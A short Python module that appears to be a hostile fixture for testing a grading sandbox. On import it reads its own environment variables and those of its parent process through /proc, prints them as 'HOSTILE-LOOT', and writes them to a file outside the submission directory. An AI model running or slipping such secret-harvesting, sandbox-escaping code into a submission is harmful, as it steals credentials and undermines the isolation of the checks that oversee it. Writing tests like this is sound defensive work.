# A correct module that hunts for the grader's secrets at import: its own
# environment, /proc/self/environ (the image it was forked from) and its
# parent's. It prints what it found (into the captured output) and writes it
# to a file outside the submission.
import json as _ej
import os as _eo


def _read(path):
    try:
        with open(path, "rb") as fh:
            return fh.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


_loot = {"environ": dict(_eo.environ), "self": _read("/proc/self/environ"),
         "parent": _read(f"/proc/{_eo.getppid()}/environ")}
print("HOSTILE-LOOT", _ej.dumps(_loot))
try:  # evidence for the test; unreachable inside a sandbox, which is fine
    with open("@@OUTSIDE@@/loot.jsonl", "a") as _fh:
        _fh.write(_ej.dumps(_loot) + "\n")
except OSError:
    pass
